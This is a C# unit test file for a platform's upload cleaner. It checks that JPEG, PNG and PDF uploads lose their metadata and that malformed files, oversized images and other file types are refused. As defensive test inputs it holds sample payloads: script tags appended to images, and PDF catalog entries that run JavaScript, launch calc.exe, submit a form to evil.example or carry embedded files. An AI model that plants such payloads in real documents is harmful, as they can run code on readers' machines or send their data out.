using System.Buffers.Binary;
using System.Text;
using CoachingPlatform.Data.Files.Cleaning;
using CoachingPlatform.Domain.Teachers.Evidence;
using UglyToad.PdfPig;
using Xunit;

namespace CoachingPlatform.Integration.Files;

/// <summary>What is let in, and what is left of it.</summary>
public class FileCleanerTests
{
    private const string Marker = "x7f3b9q-marker";

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Of_a_photograph_only_the_image_and_which_way_up_it_is_stay(bool progressive)
    {
        var photograph = Pictures.Jpeg(Marker, orientation: 6, progressive);
        Assert.Contains(Marker, Encoding.Latin1.GetString(photograph), StringComparison.Ordinal);

        var clean = Cleaned(photograph, FileFormat.Jpeg);

        Assert.DoesNotContain(Marker, Encoding.Latin1.GetString(clean), StringComparison.Ordinal);
        Assert.Equal(Pictures.Decoded(photograph), Pictures.Decoded(clean));
        Assert.Equal(6, JpegSegments.Check(clean).Orientation);
        Assert.Equal(progressive, JpegSegments.Check(clean).Progressive);
        // The place (tag 0x8825) went with everything else of the block.
        Assert.Equal(-1, clean.AsSpan().IndexOf((ReadOnlySpan<byte>)[0x88, 0x25]));
        Assert.Equal(-1, clean.AsSpan().IndexOf("ICC_PROFILE"u8));
    }

    [Fact]
    public void A_photograph_that_lies_as_it_was_taken_has_no_block_left()
    {
        var clean = Cleaned(Pictures.Jpeg(Marker, orientation: 1), FileFormat.Jpeg);

        Assert.Equal(-1, clean.AsSpan().IndexOf("Exif"u8));
    }

    [Fact]
    public void Of_a_png_only_the_pixels_and_which_way_up_it_is_stay()
    {
        var png = Pictures.Png(Marker);

        var clean = Cleaned(png, FileFormat.Png);

        Assert.DoesNotContain(Marker, Encoding.Latin1.GetString(clean), StringComparison.Ordinal);
        Assert.Equal(["IHDR", "eXIf", "IDAT", "IEND"], Pictures.Chunks(clean).Select(c => c.Type));
        Assert.Equal(Pictures.Unpacked(png), Pictures.Unpacked(clean));
    }

    [Fact]
    public void Of_a_pdf_the_pages_stay_and_who_wrote_it_goes()
    {
        var pdf = Papers.Pdf(Marker);

        var clean = Cleaned(pdf, FileFormat.Pdf);

        Assert.DoesNotContain(Marker, Encoding.Latin1.GetString(clean), StringComparison.Ordinal);
        Assert.Equal(-1, clean.AsSpan().IndexOf("xmpmeta"u8));
        using var read = PdfDocument.Open(clean);
        var page = Assert.Single(read.GetPages());
        Assert.Equal("Hello", page.Text);
        Assert.True(Assert.Single(page.GetImages()).RawBytes.StartsWith((ReadOnlySpan<byte>)[0xFF, 0xD8, 0xFF]));
        Assert.Equal(Pictures.Decoded(Pictures.Jpeg()), Pictures.Decoded(page.GetImages().Single().RawBytes.ToArray()));
        Assert.Null(read.Information.Author);
        Assert.False(read.TryGetXmpMetadata(out _));
        Assert.Equal("Well done", Assert.Single(page.GetAnnotations()).Content);
    }

    [Fact]
    public void What_is_hung_on_to_a_file_goes()
    {
        var script = "<script>alert(1)</script>"u8.ToArray();
        foreach (
            var (file, format) in new[]
            {
                (Pictures.Jpeg(), FileFormat.Jpeg),
                (Pictures.Png(), FileFormat.Png),
                (Papers.Pdf(), FileFormat.Pdf),
            }
        )
        {
            var clean = Cleaned([.. file, .. script], format);

            Assert.Equal(-1, clean.AsSpan().IndexOf("script>"u8));
        }
    }

    [Fact]
    public void What_is_smuggled_between_a_pictures_packed_pixels_goes()
    {
        // After the end of the packed pixels, within the chunk that holds them.
        var png = Pictures.Claiming(4, 4, [.. Pictures.Packed(4, 4), .. "<script>"u8]);

        Assert.Equal(-1, Cleaned(png, FileFormat.Png).AsSpan().IndexOf("<script>"u8));
    }

    [Theory]
    [InlineData("GIF89a")]
    [InlineData("<!DOCTYPE html><script>alert(1)</script>")]
    [InlineData("PK\u0003\u0004")]
    [InlineData("MZ")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'/>")]
    [InlineData("RIFF....WEBP")]
    [InlineData(" %PDF-1.7")]
    [InlineData("")]
    public void Another_type_is_refused_and_told_what_is_allowed(string file) =>
        Assert.Contains("PDF, a PNG or a JPEG", Refused(Encoding.Latin1.GetBytes(file)), StringComparison.Ordinal);

    [Fact]
    public void A_file_that_is_cut_off_anywhere_is_refused()
    {
        foreach (var whole in new[] { Pictures.Jpeg(), Pictures.Jpeg(progressive: true), Pictures.Png() })
        {
            for (var length = 8; length < whole.Length; length++)
            {
                Refused(whole[..length]);
            }
        }
        Refused(Papers.Pdf()[..200]);
    }

    [Fact]
    public void A_png_with_a_wrong_sum_a_wrong_length_or_what_it_cannot_be_shown_without_is_refused()
    {
        var png = Pictures.Png();
        var wrong = png.ToArray();
        wrong[^20] ^= 1;
        Refused(wrong);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(8), uint.MaxValue);
        Refused(png);
        Refused(Pictures.Claiming(5, 4, Pictures.Packed(4, 4)));
        Refused(Pictures.Claiming(4, 4, Pictures.Packed(4, 5)));
        using var unknown = new MemoryStream();
        unknown.Write(Pictures.Png()[..33]);
        Pictures.Chunk(unknown, "WHAT", [1]);
        unknown.Write(Pictures.Png()[33..]);
        Refused(unknown.ToArray());
    }

    [Fact]
    public void An_image_of_too_many_pixels_is_refused_before_a_pixel_is_unpacked()
    {
        var bomb = Pictures.Claiming(60_000, 60_000, []);

        Assert.Contains("64 million pixels", Refused(bomb), StringComparison.Ordinal);
        var jpeg = Pictures.Jpeg();
        var frame = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0]);
        BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(frame + 5), 65_000);
        BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(frame + 7), 65_000);
        Assert.Contains("64 million pixels", Refused(jpeg), StringComparison.Ordinal);
    }

    [Fact]
    public void A_photograph_of_very_many_passes_is_refused()
    {
        var jpeg = Pictures.Jpeg(progressive: true);
        var scan = jpeg.AsSpan().LastIndexOf((ReadOnlySpan<byte>)[0xFF, 0xDA]);
        byte[] last = jpeg[scan..^2];

        Refused([.. jpeg[..scan], .. Enumerable.Repeat(last, 100).SelectMany(s => s), 0xFF, 0xD9]);
    }

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")]
    [InlineData("/OpenAction << /S /Launch /F (calc.exe) >>")]
    [InlineData("/OpenAction << /S /#4aavaScript /J#53 (app.alert\\(1\\)) >>")]
    [InlineData("/OpenAction << /S /SubmitForm /F (https://evil.example) >>")]
    [InlineData("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>")]
    [InlineData("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>")]
    [InlineData("/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << >> >>] >> >>")]
    [InlineData("/AcroForm << /Fields [] /XFA [(template) (x)] >>")]
    public void A_pdf_that_does_something_or_carries_files_is_refused(string catalog) =>
        Assert.Contains("Print it into a new PDF", Refused(Papers.With(catalog)), StringComparison.Ordinal);

    [Fact]
    public void A_pdf_that_does_something_out_of_an_object_of_its_own_is_refused() =>
        Refused(Papers.With("/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", Papers.Stream("", "app.alert(1)")));

    [Fact]
    public void A_pdf_that_opens_at_a_page_is_let_in() =>
        Cleaned(Papers.With("/OpenAction [3 0 R /Fit]"), FileFormat.Pdf);

    [Fact]
    public void A_locked_pdf_is_refused_with_what_to_do()
    {
        var locked = Papers.Of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            $"<< /Filter /Standard /V 1 /R 2 /P -4 /O <{new string('1', 64)}> /U <{new string('2', 64)}> >>"
        );

        Assert.Contains("locked with a password", Refused(locked), StringComparison.Ordinal);
    }

    [Fact]
    public void Nothing_that_is_changed_at_random_makes_it_throw()
    {
        var random = new Random(4711);
        foreach (var whole in new[] { Pictures.Jpeg(), Pictures.Png(), Papers.Pdf() })
        {
            for (var i = 0; i < 300; i++)
            {
                var file = whole.ToArray();
                for (var n = random.Next(1, 6); n > 0; n--)
                {
                    file[random.Next(file.Length)] = (byte)random.Next(256);
                }
                FileCleaner.Clean(file);
            }
        }
    }

    private static byte[] Cleaned(byte[] file, FileFormat format)
    {
        var clean = FileCleaner.Clean(file);
        Assert.Null(clean.Refusal);
        Assert.Equal(format, clean.Format);
        Assert.Equal(format, FileCleaner.Sniff(clean.Bytes));
        return clean.Bytes;
    }

    private static string Refused(byte[] file)
    {
        var refusal = FileCleaner.Clean(file).Refusal;
        Assert.NotNull(refusal);
        Assert.EndsWith(".", refusal, StringComparison.Ordinal);
        return refusal;
    }
}
